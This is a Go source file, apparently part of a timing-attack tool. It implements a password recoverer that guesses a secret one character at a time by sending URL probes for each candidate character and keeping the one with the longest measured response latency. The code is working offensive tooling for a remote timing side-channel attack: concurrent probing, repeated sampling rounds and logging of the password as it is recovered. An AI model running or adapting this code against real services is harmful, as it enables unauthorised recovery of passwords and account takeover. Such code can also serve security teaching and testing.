package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"timing-attack/internal/core"
	"timing-attack/internal/pool"
	"timing-attack/internal/scoring"
)

// PasswordRecoverer recovers a password one position at a time
type PasswordRecoverer struct {
	config   *core.AttackConfig
	prober   core.Prober
	logger   core.Logger
	observer Observer
	pools    pool.Factory
	analyzer *scoring.StatisticalAnalyzer
}

// NewPasswordRecoverer creates a password recoverer
func NewPasswordRecoverer(config *core.AttackConfig, prober core.Prober, logger core.Logger) *PasswordRecoverer {
	return &PasswordRecoverer{
		config:   config,
		prober:   prober,
		logger:   core.OrNop(logger),
		observer: nopObserver{},
		pools:    pool.New,
		analyzer: scoring.NewStatisticalAnalyzer(),
	}
}

// Recover returns the length-character password whose every prefix drew the
// largest latency per successful sample among the alphabet
func (r *PasswordRecoverer) Recover(ctx context.Context, prefix, suffix string, length int, alphabet []rune, attempts int) (string, error) {
	if length < 0 {
		return "", fmt.Errorf("invalid password length %d", length)
	}
	if len(alphabet) == 0 {
		return "", fmt.Errorf("alphabet: %w", core.ErrEmptyCandidates)
	}
	if attempts < 1 {
		return "", fmt.Errorf("attempts must be at least 1, got %d", attempts)
	}

	r.logger.Infof("[recover] starting to lookup password of length %d", length)

	recovered := ""
	for position := 0; position < length; position++ {
		c, err := r.recoverPosition(ctx, prefix, suffix, recovered, position, alphabet, attempts)
		if err != nil {
			return "", err
		}
		recovered += string(c)
	}

	r.logger.Infof("[recover] password found: '%s'", recovered)
	return recovered, nil
}

// recoverPosition scores every alphabet character appended to recovered and
// returns the winner
func (r *PasswordRecoverer) recoverPosition(ctx context.Context, prefix, suffix, recovered string, position int, alphabet []rune, attempts int) (rune, error) {
	start := time.Now()
	table := scoring.NewScoreTable(alphabet)
	keys := table.Keys()

	urls := make(map[rune]string, len(keys))
	for _, c := range keys {
		urls[c] = prefix + recovered + string(c) + suffix
	}

	workers := r.config.RecoveryConcurrency
	if workers > len(keys) {
		workers = len(keys)
	}

	r.observer.OnStageStart(core.StagePasswordRecovery, position, attempts*len(keys))

	// Outer loop over rounds, inner over the alphabet: every character of a
	// round is measured before the next round starts.
	for round := 0; round < attempts; round++ {
		if err := ctx.Err(); err != nil {
			return 0, err
		}

		if workers <= 1 {
			for _, c := range keys {
				r.probeChar(ctx, table, urls[c], c, position, round)
			}
		} else {
			wp := r.pools(workers)
			for _, c := range keys {
				c := c
				wp.Go(func() {
					r.probeChar(ctx, table, urls[c], c, position, round)
				})
			}
			wp.Wait()
		}
	}

	if err := ctx.Err(); err != nil {
		return 0, err
	}

	result := &core.StageResult{
		Stage:    core.StagePasswordRecovery,
		Position: position,
		Scores:   table.Snapshot(scoring.FormatChar),
	}

	best, err := table.ArgMax()
	result.Duration = time.Since(start)
	if err != nil {
		if errors.Is(err, scoring.ErrNoUsableCandidate) {
			err = &core.StuckAtPositionError{Position: position, Prefix: recovered}
		}
		result.Err = err
		r.logger.Infof("[recover][position %d] %v", position, err)
		r.observer.OnDecision(result)
		return 0, err
	}

	result.Decision = string(best)
	for _, s := range result.Scores {
		r.logger.Debugf("[recover][position %d] key: %s, time: %s, samples: %d, failed: %d", position, s.Key, s.Total, s.Successes, s.Failures)
	}
	if summary, err := r.analyzer.Summarize(result.Scores); err == nil {
		r.logger.Debugf("[recover][position %d] %s", position, summary)
	}
	r.logger.Infof("[recover][position %d] character: '%c', password so far: '%s%c'", position, best, recovered, best)
	r.observer.OnDecision(result)

	return best, nil
}

// probeChar issues one probe for c. A failure is recorded as a missing
// sample for this round.
func (r *PasswordRecoverer) probeChar(ctx context.Context, table *scoring.ScoreTable[rune], url string, c rune, position, round int) {
	result, err := r.prober.Probe(ctx, url)
	if err != nil {
		if ctx.Err() != nil {
			return
		}
		table.Fail(c, err)
		r.observer.OnProbe(core.StagePasswordRecovery, err)
		r.logger.Infof("[recover][position %d][round %d] probe for '%c' failed: %v", position, round, c, err)
		return
	}

	table.Add(c, result)
	r.observer.OnProbe(core.StagePasswordRecovery, nil)
}
